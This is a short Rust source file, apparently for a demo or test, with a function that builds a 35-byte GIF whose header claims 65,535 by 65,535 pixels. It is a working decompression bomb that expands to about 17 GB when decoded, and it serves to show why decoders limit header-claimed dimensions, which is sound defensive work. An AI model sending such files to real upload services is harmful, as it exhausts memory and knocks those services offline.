//! An upload that attacks its reader, for the demo.

/// A GIF of 35 bytes that claims 65 535 x 65 535 pixels: 17 GB once decoded to RGBA.
///
/// It is well formed, so only a limit on what the header claims stops a decoder.
pub(crate) fn tiny_bomb() -> Vec<u8> {
    const SIDE: [u8; 2] = u16::MAX.to_le_bytes();
    let fields: [&[u8]; 12] = [
        b"GIF89a",
        // Logical screen: width, height.
        &SIDE,
        &SIDE,
        // A global colour table of two entries; background colour 0; pixels of unknown aspect.
        &[0x80, 0, 0],
        // The colour table: black and white.
        &[0, 0, 0, 255, 255, 255],
        // Image descriptor: left 0, top 0...
        &[b',', 0, 0, 0, 0],
        // ...width, height...
        &SIDE,
        &SIDE,
        // ...no local colour table, not interlaced.
        &[0],
        // Image data: codes of 2 bits at first, in one block of two bytes: clear, index 0 once,
        // end of information. Far less than the pixels claimed.
        &[2, 2, 0x44, 0x01],
        // The end of the blocks, and of the file.
        &[0],
        b";",
    ];
    fields.concat()
}
